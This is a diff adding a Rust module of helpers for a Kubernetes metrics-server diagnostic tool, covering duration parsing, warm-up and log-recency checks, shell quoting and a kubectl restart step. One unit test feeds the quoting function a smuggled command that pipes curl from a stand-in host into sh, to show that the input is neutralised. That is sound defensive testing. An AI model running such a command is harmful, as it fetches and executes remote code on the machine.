@@ -1,0 +1,220 @@
+//! What several checks ask of the evidence.
+
+use jiff::Timestamp;
+
+use crate::Context;
+use crate::check::{Step, Subject, Undecided};
+use crate::evidence::{Backend, DialFailure, Evidence, LogSignal, Need, Pod, Signature, Why};
+
+/// The APIService of the Metrics API.
+pub(crate) const APISERVICE: &str = "v1beta1.metrics.k8s.io";
+
+/// The APIService as a subject.
+pub(crate) fn apiservice() -> Subject {
+    Subject::cluster_scoped("APIService", APISERVICE)
+}
+
+/// Whole seconds from `then` to the time of the evidence.
+pub(crate) fn age_s(evidence: &Evidence, then: Timestamp) -> i64 {
+    evidence.taken_at.duration_since(then).as_secs()
+}
+
+/// How often metrics-server scrapes, in seconds: `--metric-resolution`, 60 s by default.
+pub(crate) fn resolution_s(args: &[String]) -> i64 {
+    Backend::flag(args, "metric-resolution").and_then(go_duration_s).unwrap_or(60)
+}
+
+/// Reads a Go duration such as `15s` or `1m30s`, in whole seconds.
+pub(crate) fn go_duration_s(text: &str) -> Option<i64> {
+    let mut total = 0_i64;
+    let mut number = String::new();
+    let mut rest = text.chars().peekable();
+    while let Some(character) = rest.next() {
+        if character.is_ascii_digit() {
+            number.push(character);
+            continue;
+        }
+        let value: i64 = std::mem::take(&mut number).parse().ok()?;
+        let unit = match character {
+            'h' => 3600,
+            'm' if rest.peek() == Some(&'s') => {
+                rest.next();
+                0
+            }
+            'm' => 60,
+            's' => 1,
+            _ => return None,
+        };
+        total = total.checked_add(value.checked_mul(unit)?)?;
+    }
+    (number.is_empty() && !text.is_empty()).then_some(total)
+}
+
+/// How long a metrics-server may take until it serves: two scrapes, the readiness probe's delay of
+/// 20 s and its period of 10 s (components.yaml since 0.5).
+fn warm_up_s(args: &[String]) -> i64 {
+    2 * resolution_s(args) + 30
+}
+
+/// "Undecided, too early" while every container of metrics-server is younger than its first two
+/// scrapes and has not failed before.
+///
+/// # Errors
+///
+/// While it warms up, and when the pods or their arguments were not seen.
+pub(crate) fn after_warm_up(ctx: &Context<'_>, evidence: &Evidence) -> Result<(), Undecided> {
+    let pods = ctx.need(&evidence.backend.pods)?;
+    if pods.is_empty() {
+        return Ok(());
+    }
+    let args = ctx.need(&evidence.backend.args)?;
+    let limit = warm_up_s(args);
+    let youngest_start = pods.iter().map(start_of).max();
+    // One restart may be a reboot of its node; a container that keeps ending is no warm-up.
+    let keeps_ending = |pod: &Pod| {
+        let end = pod.last_end.as_ref().and_then(|end| end.at);
+        pod.restarts > 1 && end.is_some_and(|end| age_s(evidence, end) <= OUTLIVED_S)
+    };
+    let failing = pods.iter().any(|pod| keeps_ending(pod) || pod.waiting.as_deref().is_some_and(is_error));
+    match youngest_start {
+        Some(start) if !failing && age_s(evidence, start) < limit => Err(Undecided {
+            need: Need::Pods,
+            why: Why::TooEarly(format!(
+                "metrics-server started {} s ago and is warming up; its first two scrapes take up to {limit} s",
+                age_s(evidence, start).max(0),
+            )),
+        }),
+        _ => Ok(()),
+    }
+}
+
+fn start_of(pod: &Pod) -> Timestamp {
+    pod.started.unwrap_or(pod.created)
+}
+
+/// Whether the reason of a waiting container is a fault and no step of a normal start.
+pub(crate) fn is_error(reason: &str) -> bool {
+    !matches!(reason, "ContainerCreating" | "PodInitializing")
+}
+
+/// The Ready nodes that were seen: what must have a fault of its own before a fault of nodes explains
+/// a metrics-server that has no metrics at all.
+pub(crate) fn all_nodes(evidence: &Evidence) -> Vec<Subject> {
+    let nodes = evidence.nodes.peek().map(Vec::as_slice).unwrap_or_default();
+    nodes.iter().filter(|node| node.ready).map(|node| Subject::node(&node.name)).collect()
+}
+
+/// A pod as a subject.
+pub(crate) fn pod_subject(pod: &Pod) -> Subject {
+    Subject::namespaced("Pod", &pod.namespace, &pod.name)
+}
+
+/// The last words of a container are what it said within this time before its end.
+const LAST_WORDS_S: i64 = 120;
+/// What a container that runs says is of the present for so long.
+const PRESENT_S: i64 = 120;
+/// A container that has run for longer has outlived what ended the one before.
+const OUTLIVED_S: i64 = 300;
+
+/// Whether a log line speaks of the present: said just now by a container that runs, or among the last
+/// words of one that ended and has no lasting successor.
+pub(crate) fn is_current(evidence: &Evidence, pods: &[Pod], signal: &LogSignal) -> bool {
+    let Some(pod) = pods.iter().find(|pod| pod.name == signal.pod) else { return false };
+    let age = age_s(evidence, signal.at);
+    match pod.started {
+        Some(_) if !signal.previous => age <= PRESENT_S,
+        started => {
+            let outlived = started.is_some_and(|started| age_s(evidence, started) > OUTLIVED_S);
+            let end = pod.last_end.as_ref().and_then(|end| end.at);
+            let last_words = end.is_none_or(|end| end.duration_since(signal.at).as_secs() <= LAST_WORDS_S);
+            !pod.ready && !outlived && last_words
+        }
+    }
+}
+
+/// The present signals that `wanted` picks, oldest first.
+///
+/// # Errors
+///
+/// When the pods or their logs were not seen.
+pub(crate) fn current_signals<'e, T>(
+    ctx: &Context<'_>,
+    evidence: &'e Evidence,
+    wanted: impl Fn(&'e Signature) -> Option<T>,
+) -> Result<Vec<(&'e LogSignal, T)>, Undecided> {
+    let pods = ctx.need(&evidence.backend.pods)?;
+    let logs = &evidence.backend.logs;
+    ctx.need(logs)?;
+    let signals = logs.peek().map(Vec::as_slice).unwrap_or_default();
+    Ok(signals
+        .iter()
+        .filter(|signal| is_current(evidence, pods, signal))
+        .filter_map(|signal| wanted(&signal.signature).map(|value| (signal, value)))
+        .collect())
+}
+
+/// Whether any pod of metrics-server is Ready, so that what its log does not say did not happen.
+pub(crate) fn serves(ctx: &Context<'_>, evidence: &Evidence) -> Result<bool, Undecided> {
+    Ok(ctx.need(&evidence.backend.pods)?.iter().any(|pod| pod.ready))
+}
+
+/// The words of Go's `net` package for a failed dial.
+pub(crate) fn dial_words(failure: DialFailure) -> &'static str {
+    match failure {
+        DialFailure::Timeout => "i/o timeout",
+        DialFailure::Refused => "connection refused",
+        DialFailure::NoRoute => "no route to host",
+    }
+}
+
+/// The namespace and name of metrics-server's ServiceAccount, as far as known.
+pub(crate) fn account(evidence: &Evidence) -> Option<(String, String)> {
+    let account = evidence.backend.reviews.account.as_deref()?;
+    let (namespace, name) = account.strip_prefix("system:serviceaccount:")?.split_once(':')?;
+    Some((namespace.to_owned(), name.to_owned()))
+}
+
+/// A word for a shell: quoted unless it is plain.
+pub(crate) fn word(text: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._:/@=,".contains(&byte);
+    if !text.is_empty() && text.bytes().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
+/// A step that starts metrics-server anew, so that the cure shows at once.
+pub(crate) fn restart_metrics_server(evidence: &Evidence) -> Vec<Step> {
+    let Some(Some(workload)) = evidence.backend.workload.peek() else { return Vec::new() };
+    let (namespace, name) = (&workload.namespace, &workload.name);
+    let kind = workload.kind.to_ascii_lowercase();
+    let restart = format!("kubectl -n {namespace} rollout restart {kind}/{name}");
+    vec![
+        Step::run("workstation", restart)
+            .verify(format!("kubectl -n {namespace} rollout status {kind}/{name} --timeout=3m")),
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_of_a_stranger_stay_words() {
+        assert_eq!(word("node-1.example"), "node-1.example");
+        assert_eq!(word("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(word("it's"), "'it'\\''s'");
+        assert_eq!(word(""), "''");
+    }
+
+    #[test]
+    fn reads_go_durations() {
+        assert_eq!(go_duration_s("15s"), Some(15));
+        assert_eq!(go_duration_s("1m30s"), Some(90));
+        assert_eq!(go_duration_s("1h"), Some(3600));
+        assert_eq!(go_duration_s("500ms"), Some(0));
+        assert_eq!(go_duration_s("15"), None);
+        assert_eq!(go_duration_s(""), None);
+        assert_eq!(go_duration_s("99999999999999999999s"), None);
+    }
+}
